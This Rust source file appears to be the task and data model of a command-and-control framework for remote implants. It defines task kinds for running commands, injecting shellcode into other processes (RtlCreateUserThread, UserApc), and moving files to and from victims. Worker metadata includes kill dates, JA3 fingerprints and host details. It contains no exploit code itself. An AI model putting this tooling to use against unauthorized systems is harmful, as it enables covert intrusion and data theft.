//! Core data model.
//!
//! A task is one unit of work bound for one worker. It carries a random
//! token that the worker must hand back unchanged when it reports the
//! result, and the ledger keeps the authoritative copy of that token
//! alongside the task's lifecycle status.

use chrono::{DateTime, Utc};
use rand::Rng;
use rand::distributions::Alphanumeric;
use serde::{Deserialize, Serialize};
use uuid::Uuid;

/// Length of generated task IDs.
pub const TASK_ID_LEN: usize = 10;

// ---------------------------------------------------------------------------
// Identifiers
// ---------------------------------------------------------------------------

/// Identifier of a remote worker.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(transparent)]
pub struct WorkerId(pub Uuid);

impl WorkerId {
    /// Reserved ID addressing every currently known worker.
    pub const BROADCAST: WorkerId = WorkerId(Uuid::from_u128(u128::MAX));

    pub fn new() -> Self {
        Self(Uuid::new_v4())
    }

    pub fn is_broadcast(self) -> bool {
        self == Self::BROADCAST
    }
}

impl Default for WorkerId {
    fn default() -> Self {
        Self::new()
    }
}

impl std::fmt::Display for WorkerId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::str::FromStr for WorkerId {
    type Err = uuid::Error;

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        Uuid::parse_str(s).map(Self)
    }
}

/// Process-unique task identifier.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(transparent)]
pub struct TaskId(pub String);

impl TaskId {
    /// Generate a random alphanumeric ID. Uniqueness against live tasks
    /// is enforced by the ledger, not here.
    pub fn generate() -> Self {
        let id: String = rand::thread_rng()
            .sample_iter(&Alphanumeric)
            .take(TASK_ID_LEN)
            .map(char::from)
            .collect();
        Self(id)
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for TaskId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl From<&str> for TaskId {
    fn from(s: &str) -> Self {
        Self(s.to_string())
    }
}

/// Single-use authorization bound to a task at creation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Token(pub Uuid);

impl Token {
    pub fn new() -> Self {
        Self(Uuid::new_v4())
    }
}

impl Default for Token {
    fn default() -> Self {
        Self::new()
    }
}

impl std::fmt::Display for Token {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

// ---------------------------------------------------------------------------
// Task kinds
// ---------------------------------------------------------------------------

/// Closed set of task kinds. The numeric codes cross the wire and must
/// not change.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum TaskKind {
    Command,
    Control,
    Shellcode,
    Native,
    FileTransfer,
    ServerAck,
    Module,
    Results,
    WorkerInfo,
}

impl TaskKind {
    pub const ALL: [TaskKind; 9] = [
        TaskKind::Command,
        TaskKind::Control,
        TaskKind::Shellcode,
        TaskKind::Native,
        TaskKind::FileTransfer,
        TaskKind::ServerAck,
        TaskKind::Module,
        TaskKind::Results,
        TaskKind::WorkerInfo,
    ];

    pub fn code(self) -> u8 {
        match self {
            TaskKind::Command => 10,
            TaskKind::Control => 11,
            TaskKind::Shellcode => 12,
            TaskKind::Native => 13,
            TaskKind::FileTransfer => 14,
            TaskKind::ServerAck => 15,
            TaskKind::Module => 16,
            TaskKind::Results => 20,
            TaskKind::WorkerInfo => 21,
        }
    }
}

impl std::fmt::Display for TaskKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            TaskKind::Command => "Command",
            TaskKind::Control => "AgentControl",
            TaskKind::Shellcode => "Shellcode",
            TaskKind::Native => "Native",
            TaskKind::FileTransfer => "FileTransfer",
            TaskKind::ServerAck => "ServerOK",
            TaskKind::Module => "Module",
            TaskKind::Results => "Result",
            TaskKind::WorkerInfo => "AgentInfo",
        };
        f.write_str(s)
    }
}

// ---------------------------------------------------------------------------
// Payloads
// ---------------------------------------------------------------------------

/// Typed task payload. The variant determines the task kind.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", content = "data", rename_all = "snake_case")]
pub enum Payload {
    Command(CommandPayload),
    Control(CommandPayload),
    Shellcode(ShellcodePayload),
    Native(CommandPayload),
    FileTransfer(FileTransferPayload),
    ServerAck,
    Module(CommandPayload),
    Results(ResultsPayload),
    WorkerInfo(WorkerInfo),
}

impl Payload {
    pub fn kind(&self) -> TaskKind {
        match self {
            Payload::Command(_) => TaskKind::Command,
            Payload::Control(_) => TaskKind::Control,
            Payload::Shellcode(_) => TaskKind::Shellcode,
            Payload::Native(_) => TaskKind::Native,
            Payload::FileTransfer(_) => TaskKind::FileTransfer,
            Payload::ServerAck => TaskKind::ServerAck,
            Payload::Module(_) => TaskKind::Module,
            Payload::Results(_) => TaskKind::Results,
            Payload::WorkerInfo(_) => TaskKind::WorkerInfo,
        }
    }
}

/// A named command with arguments. Shared by command, control, native
/// and module tasks.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CommandPayload {
    pub command: String,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub args: Vec<String>,
}

/// How the worker should run a shellcode blob.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ShellcodeMethod {
    #[serde(rename = "self")]
    Local,
    Remote,
    RtlCreateUserThread,
    UserApc,
}

impl ShellcodeMethod {
    /// Every method except in-process execution targets another process.
    pub fn needs_pid(self) -> bool {
        !matches!(self, ShellcodeMethod::Local)
    }
}

impl std::str::FromStr for ShellcodeMethod {
    type Err = String;

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "self" => Ok(ShellcodeMethod::Local),
            "remote" => Ok(ShellcodeMethod::Remote),
            "rtlcreateuserthread" => Ok(ShellcodeMethod::RtlCreateUserThread),
            "userapc" => Ok(ShellcodeMethod::UserApc),
            other => Err(format!("unknown execution method: {other}")),
        }
    }
}

impl std::fmt::Display for ShellcodeMethod {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            ShellcodeMethod::Local => "self",
            ShellcodeMethod::Remote => "remote",
            ShellcodeMethod::RtlCreateUserThread => "rtlcreateuserthread",
            ShellcodeMethod::UserApc => "userapc",
        };
        f.write_str(s)
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ShellcodePayload {
    pub method: ShellcodeMethod,
    /// Base64 of the raw bytes.
    pub bytes: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pid: Option<u32>,
}

/// Which way file data moves.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Direction {
    /// Upload: the blob is attached at task creation.
    ServerToWorker,
    /// Download: the worker attaches the blob to its result.
    WorkerToServer,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileTransferPayload {
    /// Path on the worker's side.
    pub path: String,
    /// Base64 file contents, when present.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub blob: Option<String>,
    pub direction: Direction,
}

/// Output of a command run by a worker.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct ResultsPayload {
    pub stdout: String,
    pub stderr: String,
}

// ---------------------------------------------------------------------------
// Worker info
// ---------------------------------------------------------------------------

/// Metadata snapshot a worker reports about itself.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct WorkerInfo {
    pub version: String,
    pub build: String,
    /// Check-in interval, e.g. "30s".
    pub wait_time: String,
    pub padding_max: usize,
    pub max_retry: u32,
    pub failed_checkin: u32,
    pub skew: i64,
    pub proto: String,
    /// Unix epoch seconds; zero means unset.
    pub kill_date: i64,
    pub ja3: String,
    pub sys_info: SysInfo,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct SysInfo {
    pub platform: String,
    pub architecture: String,
    pub user_name: String,
    pub user_guid: String,
    pub host_name: String,
    pub process_id: u32,
    pub ips: Vec<String>,
}

// ---------------------------------------------------------------------------
// Task
// ---------------------------------------------------------------------------

/// A task in flight, as delivered to (or returned by) a worker.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Task {
    pub worker_id: WorkerId,
    pub id: TaskId,
    pub token: Token,
    pub payload: Payload,
}

impl Task {
    pub fn kind(&self) -> TaskKind {
        self.payload.kind()
    }
}

// ---------------------------------------------------------------------------
// Status
// ---------------------------------------------------------------------------

/// Lifecycle status of a ledger entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Status {
    /// Queued, not yet delivered.
    Created,
    /// Delivered to the worker on a checkin.
    Sent,
    /// Partial result received, more chunks expected.
    Returned,
    /// Result accepted. Terminal.
    Complete,
    /// Dropped from the queue before delivery. Terminal.
    Canceled,
}

impl Status {
    pub fn can_transition_to(self, to: Status) -> bool {
        use Status::*;
        matches!(
            (self, to),
            (Created, Sent)
                | (Created, Canceled)
                | (Sent, Returned)
                | (Sent, Complete)
                | (Returned, Returned) // another chunk
                | (Returned, Complete)
        )
    }

    pub fn is_terminal(self) -> bool {
        matches!(self, Status::Complete | Status::Canceled)
    }
}

impl std::fmt::Display for Status {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Status::Created => "Created",
            Status::Sent => "Sent",
            Status::Returned => "Returned",
            Status::Complete => "Complete",
            Status::Canceled => "Canceled",
        };
        f.write_str(s)
    }
}

// ---------------------------------------------------------------------------
// Ledger rows
// ---------------------------------------------------------------------------

/// Ledger entry for one task.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TaskMetadata {
    pub worker_id: WorkerId,
    pub kind: TaskKind,
    pub token: Token,
    pub status: Status,
    /// Last result chunk received. Only meaningful while `Returned`.
    pub chunk: u32,
    pub created_at: DateTime<Utc>,
    pub sent_at: Option<DateTime<Utc>>,
    pub completed_at: Option<DateTime<Utc>>,
}

/// Display projection of a non-terminal ledger entry.
#[derive(Debug, Clone, PartialEq)]
pub struct ActiveTaskRow {
    pub task_id: TaskId,
    pub status: Status,
    pub kind: TaskKind,
    pub created_at: DateTime<Utc>,
    pub sent_at: Option<DateTime<Utc>>,
}

impl ActiveTaskRow {
    /// Cells in table order: ID, status, kind, created, sent.
    pub fn cells(&self) -> [String; 5] {
        [
            self.task_id.to_string(),
            self.status.to_string(),
            self.kind.to_string(),
            self.created_at.to_rfc3339(),
            self.sent_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn broadcast_id_is_all_ones() {
        assert_eq!(
            WorkerId::BROADCAST.to_string(),
            "ffffffff-ffff-ffff-ffff-ffffffffffff"
        );
        assert!(WorkerId::BROADCAST.is_broadcast());
        assert!(!WorkerId::new().is_broadcast());
    }

    #[test]
    fn terminal_states_have_no_exits() {
        use Status::*;
        for from in [Complete, Canceled] {
            for to in [Created, Sent, Returned, Complete, Canceled] {
                assert!(!from.can_transition_to(to), "{from} -> {to}");
            }
        }
        assert!(!Sent.can_transition_to(Canceled));
        assert!(Created.can_transition_to(Canceled));
    }

    #[test]
    fn kind_codes_are_distinct() {
        let codes: std::collections::HashSet<u8> = TaskKind::ALL.iter().map(|k| k.code()).collect();
        assert_eq!(codes.len(), TaskKind::ALL.len());
    }

    #[test]
    fn generated_task_ids_are_alphanumeric() {
        let id = TaskId::generate();
        assert_eq!(id.as_str().len(), TASK_ID_LEN);
        assert!(id.as_str().chars().all(|c| c.is_ascii_alphanumeric()));
    }

    #[test]
    fn payload_wire_shape_is_tagged() {
        let payload = Payload::Results(ResultsPayload {
            stdout: "ok".into(),
            stderr: String::new(),
        });
        let json = serde_json::to_value(&payload).unwrap();
        assert_eq!(json["kind"], "results");
        assert_eq!(json["data"]["stdout"], "ok");
    }
}
